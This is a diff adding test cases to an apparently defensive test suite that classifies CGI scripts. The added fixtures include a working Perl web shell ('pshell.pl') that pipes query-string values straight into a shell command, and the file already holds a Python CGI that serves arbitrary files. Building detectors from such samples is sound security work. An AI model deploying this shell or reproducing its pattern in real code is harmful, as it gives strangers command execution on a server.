@@ -15,6 +15,19 @@ const top = (path: string, text: string) =>
     }),
   )[0]!;
 
+// A CGI parser written by hand, as old Perl shells carry it: buffer, pairs, pair, name and
+// value, then the hash.
+const READ_PARAM = `sub read_param {
+$buffer = "$ENV{'QUERY_STRING'}";
+@pairs = split(/&/, $buffer);
+foreach $pair (@pairs) {
+  ($name, $value) = split(/=/, $pair);
+  $value =~ s/%([a-fA-F0-9][a-fA-F0-9])/pack("C", hex($1))/eg;
+  $param{$name} = $value;
+}
+}
+`;
+
 describe('CGI scripts', () => {
   it.each([
     [
@@ -56,6 +69,16 @@ describe('CGI scripts', () => {
       'a Python CGI file browser',
       '/usr/lib/cgi-bin/files.py',
       "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\np = form.getvalue('p', '/')\nprint('Content-type: text/plain\\n')\nif os.path.isfile(p):\n    print(open(p).read())\nelse:\n    print('\\n'.join(os.listdir(p)))\n",
+    ],
+    [
+      'a Perl CGI parsing the query by hand into a hash, opening a pipe on two of its values',
+      '/opt/pshell.pl',
+      `#!/usr/bin/perl
+print "Content-type: text/html\n\n";
+&read_param();
+open(FILEHANDLE, "cd $param{dir}&&$param{cmd}|");
+while ($line=<FILEHANDLE>){print "$line";};
+${READ_PARAM}`,
     ],
     [
       'a Python CGI handing a form field to popen',
@@ -115,6 +138,16 @@ describe('CGI scripts', () => {
       'a Python CGI running a fixed program on a form field',
       '/usr/lib/cgi-bin/dig.py',
       "#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue('n')\nsubprocess.run(['dig', name])\n",
+    ],
+    [
+      'a Perl CGI parsing the query by hand, running a fixed program on a value',
+      '/usr/lib/cgi-bin/host.pl',
+      `#!/usr/bin/perl
+print "Content-type: text/plain\n\n";
+&read_param();
+system("/usr/bin/host", $param{host});
+open(LOG, ">>/var/log/host.log");
+${READ_PARAM}`,
     ],
     [
       'a Perl CGI download script opening the file the visitor picks in a folder it lists itself',
